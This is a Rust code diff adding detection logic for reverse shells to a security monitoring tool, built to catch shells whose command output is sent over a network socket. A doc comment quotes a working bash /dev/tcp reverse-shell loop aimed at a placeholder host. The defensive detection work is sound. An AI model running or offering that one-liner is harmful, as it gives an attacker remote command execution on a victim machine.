@@ -37,6 +37,8 @@ struct Duper {
     uuid: String,
     peer: SocketAddr,
     exe_comm: String,
+    /// The socket is on standard output (not only standard input).
+    stdout: bool,
 }
 
 /// The processes with a socket `dup2`ed onto fd 0 or 1, by pid, first in first out.
@@ -67,12 +69,19 @@ impl StdioDups {
         if !matches!(socket.family, "inet" | "inet6") || peer.port() == 0 {
             return;
         }
+        // `>&5 2>&5` after `<&5`: the streams add up while the image is the same.
+        let stdout = socket.fd == 1
+            || self
+                .dupers
+                .get(&a.process.pid)
+                .is_some_and(|d| d.stdout && d.uuid == a.process.uuid && d.peer == peer);
         self.dupers.insert(
             a.process.pid,
             Duper {
                 uuid: a.process.uuid.clone(),
                 peer,
                 exe_comm: a.process.comm.clone(),
+                stdout,
             },
         );
     }
@@ -89,17 +98,21 @@ impl StdioDups {
 }
 
 /// A shell (by executable name; busybox by its applet) whose parent, still the image that did
-/// it, had put a connected socket on its standard input or output.
+/// it, had put a connected socket on its standard input or output; or any other program a
+/// shell runs with a connected socket the shell put on its standard output
+/// ([`command_to_socket`]). `previous`: the image this process ran before the exec, `None` for
+/// a fork's first exec.
 pub(crate) fn check_exec(
     d: &Detector,
     table: &StdioDups,
     e: &ExecInfo,
+    previous: Option<&std::path::Path>,
     lookup: &dyn ProcessLookup,
 ) -> Option<Candidate> {
     let b = d.rules.behaviour();
     let name = program_identity(d, e);
     if !listed(&b.shells, name) {
-        return None;
+        return command_to_socket(d, table, e, previous, lookup);
     }
     let parent = e.lineage.first()?;
     let duper = table
@@ -139,6 +152,79 @@ pub(crate) fn check_exec(
                 e.process.comm, e.process.pid, parent.pid, duper.peer
             ),
             format!("{parent_exe}\0{}", duper.peer.ip()),
+            context,
+        ),
+    ))
+}
+
+/// A command a shell runs with its standard output on a connected IP socket that the shell put
+/// there (`dup2` by the shell, or by its fork before the exec): bash's `/dev/tcp` reverse shell
+/// as a loop, `exec 5<>/dev/tcp/host/port; cat <&5 | while read l; do $l 2>&5 >&5; done`, where
+/// no shell is exec'd on the socket and each command's output goes to the peer. A shell exec'd
+/// with the socket on its streams is the `reverse-shell` rule's; a socket on standard input
+/// only (`cat <&3`, bash fetching a page) is a download, not this. The shell is known by its
+/// executable: the parent's, the fork's image being the parent's (no exec since the fork).
+fn command_to_socket(
+    d: &Detector,
+    table: &StdioDups,
+    e: &ExecInfo,
+    previous: Option<&std::path::Path>,
+    lookup: &dyn ProcessLookup,
+) -> Option<Candidate> {
+    let b = d.rules.behaviour();
+    let parent = e.lineage.first()?;
+    let parent_exe = parent.exe.as_ref()?;
+    let shell_name = super::technique::program_name(super::path_basename(parent_exe));
+    if !listed(&b.shells, shell_name) {
+        return None;
+    }
+    let same = |x: &&Duper, uuid: &str| x.uuid.is_empty() || uuid.is_empty() || x.uuid == uuid;
+    // The fork put it there before the exec, or the shell on its own streams.
+    let (duper, holder) = match table
+        .dupers
+        .get(&e.process.pid)
+        .filter(|x| previous.is_none() && same(x, &e.process.uuid))
+    {
+        Some(x) => (x, e.process.pid),
+        None => (
+            table
+                .dupers
+                .get(&parent.pid)
+                .filter(|x| same(x, &parent.uuid))?,
+            parent.pid,
+        ),
+    };
+    if !duper.stdout {
+        return None;
+    }
+    let shell = parent_exe.display().to_string();
+    let mut context = RuntimeContext {
+        command_line_example: Some(redacted_command_line(&e.argv)),
+        ..RuntimeContext::default()
+    };
+    let a = &mut context.additional;
+    a.insert("stdioPeer".into(), duper.peer.to_string());
+    a.insert("socketHeldBy".into(), shell.clone());
+    a.insert("socketHolderPid".into(), holder.to_string());
+    Some(technique(
+        d,
+        &e.process,
+        lookup,
+        Raises {
+            finding_type: FindingType::ExecutionReverseShell,
+            rule: "behaviour-reverse-shell-command-socket",
+            mitre: "T1059.004,T1095",
+            severity: Some(8.0),
+        },
+        draft(
+            "A shell ran a command with its output on a network connection",
+            format!(
+                "Process {} (pid {}) was started by the shell {shell} (pid {}) with its standard \
+                 output on the connection to {} that the shell put there: the command's output \
+                 goes to the peer, as in a shell loop driven from the network.",
+                e.process.comm, e.process.pid, parent.pid, duper.peer
+            ),
+            format!("{shell}\0{}", duper.peer.ip()),
             context,
         ),
     ))
